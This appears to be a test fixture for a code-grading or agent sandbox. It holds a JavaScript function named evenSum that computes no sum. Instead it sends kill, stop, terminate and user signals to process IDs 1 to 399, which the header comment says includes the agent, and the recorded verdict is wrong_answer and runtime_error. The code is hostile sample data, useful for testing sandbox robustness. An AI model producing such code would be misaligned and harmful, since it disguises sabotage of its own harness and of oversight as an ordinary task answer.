// tries: sends signals to every process that it can name, the agent among them
// verdict: wrong_answer, runtime_error
const evenSum = () => {
  for (let pid = 1; pid < 400; pid++) {
    for (const name of ['SIGKILL', 'SIGSTOP', 'SIGTERM', 'SIGUSR1']) {
      try {
        if (pid !== process.pid) process.kill(pid, name)
      } catch {}
    }
  }
}
